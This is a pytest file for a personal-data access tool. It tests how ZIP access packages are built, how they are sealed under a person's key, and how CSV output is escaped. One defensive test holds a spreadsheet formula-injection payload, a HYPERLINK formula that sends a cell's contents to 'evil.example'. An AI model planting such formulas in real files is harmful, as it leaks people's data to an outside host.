"""The access package: ZIP contents, value encoding, files, and its sealed stored copy."""

from __future__ import annotations

import csv
import io
import json
import uuid
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy.orm import Session

from dataward.connectors.service import FoundRecord
from dataward.core.clock import FixedClock
from dataward.core.crypto import Keyring
from dataward.core.errors import NotFound
from dataward.people import service as people
from dataward.people.service import PersonErased
from dataward.rights.letter import SearchedLine
from dataward.rights.packages import (
    Package,
    build_package,
    open_package,
    package_path,
    plain,
    store_package,
)

GENERATED = datetime(2026, 3, 2, 10, 0, tzinfo=UTC)


def _package(tmp_path: Path) -> Package:
    recording = tmp_path / "rec-1.wav"
    recording.write_bytes(b"RIFF....WAVEfmt ")
    second = tmp_path / "elsewhere" / "rec-1.wav"
    second.parent.mkdir()
    second.write_bytes(b"RIFF2")
    records = [
        FoundRecord(
            "crm",
            "customers",
            (1,),
            {
                "id": 1,
                "email": "alice@example.com",
                "name": "Zoë Ørsted",
                "joined": date(2020, 1, 2),
            },
            {"email": ["user.contact.email"], "name": ["user.name"]},
        ),
        FoundRecord(
            "calls",
            "recordings",
            ("a/b",),
            {"id": "a/b", "path": "rec-1.wav", "amount": Decimal("9.50"), "blob": b"\x00\x01"},
            {"path": ["user.content.call_recording"]},
        ),
    ]
    return Package(
        reference="DW-2026-000009",
        kind="access",
        controller="Kestrel IT Ltd",
        generated_at=GENERATED,
        records=records,
        files={("calls", "recordings", ("a/b",)): [recording, second]},
        searched=[SearchedLine("crm", "customers", 1), SearchedLine("calls", "recordings", 1)],
        letter_html="<html>letter</html>",
    )


def test_values_are_written_in_plain_json_forms() -> None:
    assert plain(date(2026, 3, 2)) == "2026-03-02"
    assert plain(GENERATED) == "2026-03-02T10:00:00+00:00"
    assert plain(Decimal("1.10")) == "1.10"
    assert plain(b"\xff") == {"base64": "/w=="}
    assert plain(uuid.UUID(int=1)) == "00000000-0000-0000-0000-000000000001"
    assert plain([1, (2, None)]) == [1, [2, None]]


def test_the_zip_holds_data_json_a_csv_per_collection_the_letter_files_and_a_readme(
    tmp_path: Path,
) -> None:
    archive = zipfile.ZipFile(io.BytesIO(build_package(_package(tmp_path))))
    names = archive.namelist()
    assert sorted(names) == [
        "README.txt",
        "csv/calls/recordings.csv",
        "csv/crm/customers.csv",
        "data.json",
        "files/calls/recordings/a_b/2-rec-1.wav",
        "files/calls/recordings/a_b/rec-1.wav",
        "letter.html",
    ]
    data = json.loads(archive.read("data.json"))
    customer = data["systems"]["crm"]["customers"][0]
    assert customer["fields"]["email"] == {
        "value": "alice@example.com",
        "categories": ["user.contact.email"],
    }
    assert customer["fields"]["joined"] == {"value": "2020-01-02", "categories": []}
    recording = data["systems"]["calls"]["recordings"][0]
    assert recording["files"] == [
        "files/calls/recordings/a_b/rec-1.wav",
        "files/calls/recordings/a_b/2-rec-1.wav",
    ]
    assert recording["fields"]["blob"]["value"] == {"base64": "AAE="}
    assert archive.read("files/calls/recordings/a_b/rec-1.wav") == b"RIFF....WAVEfmt "
    csv_text = archive.read("csv/crm/customers.csv").decode("utf-8")
    assert csv_text.startswith("\ufeffid,email,name,joined\r\n")
    assert "Zoë Ørsted" in csv_text
    readme = archive.read("README.txt").decode()
    assert "csv/crm/customers.csv" in readme
    assert "2 files we hold about you" in readme
    assert "DW-2026-000009" in readme


def test_the_stored_package_is_sealed_under_the_person_s_key_and_dies_with_it(
    session: Session, tmp_path: Path, clock: FixedClock
) -> None:
    keyring = Keyring(b"s" * 32, source="test")
    person = people.register_person(
        session=session, keyring=keyring, clock=clock, email="alice@example.com"
    )
    content = build_package(_package(tmp_path))
    home = tmp_path / "home"
    path = store_package(
        session=session,
        keyring=keyring,
        person=person,
        home=home,
        reference="DW-2026-000009",
        content=content,
    )
    assert path == package_path(home, "DW-2026-000009")
    assert b"alice@example.com" not in path.read_bytes()
    assert b"data.json" not in path.read_bytes()
    assert (
        open_package(
            session=session, keyring=keyring, person=person, home=home, reference="DW-2026-000009"
        )
        == content
    )
    people.forget(
        session=session,
        keyring=keyring,
        clock=clock,
        person=person,
        actor="cli:olivia",
        reason="erasure request DW-2026-000010",
    )
    with pytest.raises(PersonErased):
        open_package(
            session=session, keyring=keyring, person=person, home=home, reference="DW-2026-000009"
        )


def test_opening_a_package_that_was_never_stored_says_how_to_make_it(
    session: Session, tmp_path: Path, clock: FixedClock
) -> None:
    keyring = Keyring(b"s" * 32, source="test")
    person = people.register_person(
        session=session, keyring=keyring, clock=clock, email="bob@example.com"
    )
    with pytest.raises(NotFound, match="dataward rights run DW-2026-000011"):
        open_package(
            session=session,
            keyring=keyring,
            person=person,
            home=tmp_path,
            reference="DW-2026-000011",
        )


def test_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text() -> None:
    payload = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
    record = FoundRecord(
        "helpdesk",
        "tickets",
        (7,),
        {"id": 7, "subject": payload, "phone": "+447700900001", "delta": -5, "tag": "@SUM(1)"},
        {"subject": ["user.content"]},
    )
    package = Package(
        reference="DW-2026-000010",
        kind="access",
        controller="Kestrel IT Ltd",
        generated_at=GENERATED,
        records=[record],
        files={},
        searched=[SearchedLine("helpdesk", "tickets", 1)],
    )
    archive = zipfile.ZipFile(io.BytesIO(build_package(package)))
    text = archive.read("csv/helpdesk/tickets.csv").decode("utf-8-sig")
    row = next(csv.reader(io.StringIO(text[text.index("\r\n") + 2 :])))
    assert row == ["7", "'" + payload, "'+447700900001", "-5", "'@SUM(1)"]
    data = json.loads(archive.read("data.json"))
    fields = data["systems"]["helpdesk"]["tickets"][0]["fields"]
    assert fields["subject"]["value"] == payload  # the machine-readable copy stays exact
